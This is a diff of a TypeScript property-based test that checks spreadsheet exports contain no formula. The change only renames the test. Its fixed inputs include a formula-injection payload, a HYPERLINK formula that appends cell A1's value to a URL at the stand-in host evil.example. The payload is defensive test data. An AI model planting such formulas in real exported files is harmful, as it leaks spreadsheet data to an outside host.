@@ -23,7 +23,7 @@ const piece = fc.constantFrom(
 )
 const nasty = fc.array(piece, { minLength: 1, maxLength: 12 }).map((pieces) => pieces.join(''))
 
-test('holds no formula, whichever separator a spreadsheet takes and however it reads quotes', async () => {
+test('contains no formula, whichever separator and quotes a spreadsheet uses', async () => {
   await using inbox = await makeInbox()
   const known = ['x;=1+2;', 'Hola\n=HYPERLINK("http://evil.example/?"&A1;"Ver pedido");\nadios', '550 no'] as const
   for (const [name, message, reason] of [known, ...fc.sample(fc.tuple(nasty, nasty, nasty), 50)]) {
